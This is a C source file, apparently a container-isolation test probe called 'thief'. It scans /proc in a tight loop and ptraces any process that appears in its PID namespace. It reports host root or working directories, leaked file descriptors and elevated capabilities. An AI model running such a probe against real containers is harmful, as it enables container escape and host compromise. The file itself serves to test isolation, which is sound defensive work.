// thief: looks at every process of its pid namespace but the first and itself as fast as it can, with CAP_SYS_PTRACE, and prints what
// it finds of the host: a root or working directory that is not its own, a descriptor beyond 0 to 2 that is neither a socket nor a fifo, or
// capabilities that it has not itself.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long long own;
static struct stat root;
static int seen;

static unsigned long long capabilities(const char *path)
{
    char text[4096], *line;
    int file = open(path, O_RDONLY);
    ssize_t n = file < 0 ? -1 : read(file, text, sizeof text - 1);
    close(file);
    if (n <= 0)
        return 0;
    text[n] = 0;
    line = strstr(text, "CapPrm:");
    return line == NULL ? 0 : strtoull(line + 7, NULL, 16);
}

static void directory(int pid, const char *name)
{
    char path[64];
    struct stat found;
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    if (stat(path, &found) == 0 && (found.st_dev != root.st_dev || found.st_ino != root.st_ino))
        printf("%s %llx:%llu\n", name, (unsigned long long)found.st_dev, (unsigned long long)found.st_ino);
}

static void descriptors(int pid)
{
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *list = opendir(path);
    if (list == NULL)
        return;
    struct dirent *entry;
    while ((entry = readdir(list)) != NULL) {
        if (atoi(entry->d_name) <= 2)
            continue;
        ssize_t n = readlinkat(dirfd(list), entry->d_name, target, sizeof target - 1);
        if (n <= 0)
            continue;
        target[n] = 0;
        // A socket tells the host of the exec; at two fifos a created container waits for its start.
        struct stat found;
        if (strncmp(target, "socket:", 7) != 0 && strcmp(target, "anon_inode:[signalfd]") != 0 && fstatat(dirfd(list), entry->d_name, &found, 0) == 0
            && !S_ISFIFO(found.st_mode))
            printf("fd %s %s\n", entry->d_name, target);
    }
    closedir(list);
}

// To be its tracer is to be it.
static void trace(int pid)
{
    char path[64];
    int status;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    unsigned long long theirs = capabilities(path);
    if (theirs & ~own)
        printf("capabilities %llx\n", theirs);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
        return;
    seen++;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        if (capabilities(path) & ~own)
            printf("traced with capabilities %llx\n", capabilities(path));
        directory(pid, "root");
        descriptors(pid);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

int main(void)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    own = capabilities("/proc/self/status");
    stat("/", &root);
    printf("ready %llx\n", own);
    DIR *proc = opendir("/proc");
    for (int told = 0;;) {
        rewinddir(proc);
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            directory(pid, "root");
            directory(pid, "cwd");
            descriptors(pid);
            trace(pid);
        }
        if (told == 0 && seen > 0) {
            printf("traced one\n");
            told = 1;
        }
    }
}
